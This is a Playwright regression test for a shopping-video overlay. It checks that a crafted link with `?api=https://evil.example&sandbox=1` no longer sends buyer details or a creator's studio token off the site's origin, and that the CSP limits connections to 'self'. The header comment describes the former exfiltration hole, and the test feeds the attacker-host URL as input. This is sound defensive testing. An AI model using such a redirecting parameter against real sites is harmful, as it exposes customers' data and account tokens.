// A link to our own origin cannot send a viewer's data anywhere else (issue 22,
// item 1): once, `?api=https://evil.example` pointed every API call of the
// overlay there, with the buyer's details, and in a tab signed in to the studio
// (`&sandbox=1`) the creator's token too. Seen failing before the fix: the
// first request went to https://evil.example/api/shows/demo.
import { expect, test } from './fixtures';
import { TOKEN, pin, press, unpinAll } from './helpers';

test.beforeEach(async ({ request }) => {
  await unpinAll(request);
});

test('a page opened with ?api= and &sandbox=1 sends nothing off our origin', async ({ page, request }, testInfo) => {
  const ours = new URL(testInfo.project.use.baseURL!).origin;
  const elsewhere: string[] = [];
  page.on('request', (r) => {
    const url = new URL(r.url());
    if (!['data:', 'blob:'].includes(url.protocol) && url.origin !== ours) elsewhere.push(r.url());
  });
  // Nothing may reach the other host even if the page tried.
  await page.route((url) => url.origin !== ours && url.protocol.startsWith('http'), (route) => route.abort());

  // A tab signed in to the studio for this show, and a buyer who asked to be remembered.
  await page.goto('/studio');
  await page.evaluate((token) => {
    sessionStorage.setItem('vetrina.studio.token', token);
    sessionStorage.setItem('vetrina.studio.show', 'demo');
  }, TOKEN);

  await page.goto('/?show=demo&api=https://evil.example&sandbox=1');
  // The overlay has read its show (or failed to): the video, or the error state.
  await page.locator('video.vt-video, .vt-placeholder[role=alert]').first().waitFor();
  expect(elsewhere, 'requests that left our origin on load').toEqual([]);
  await expect(page.locator('video.vt-video')).toBeVisible();
  await pin(request, 4);
  const card = page.locator('.vt-card[data-product-id="4"]');
  await expect(card).toBeVisible();
  await press(card, testInfo);
  // Adding makes a sandbox cart with the creator's token: on our origin only.
  await press(page.getByTestId('add-to-cart'), testInfo);
  await expect(page.getByTestId('cart-count')).toHaveText('1');
  await page.waitForTimeout(500);
  expect(elsewhere, 'requests that left our origin').toEqual([]);
  // The page itself says where data may go: our origin only (this show streams from it).
  const response = await request.get('/?show=demo');
  const connect = (response.headers()['content-security-policy'] ?? '')
    .split(';')
    .map((d) => d.trim())
    .filter((d) => d.startsWith('connect-src'));
  expect(connect).toEqual(["connect-src 'self'"]);
});
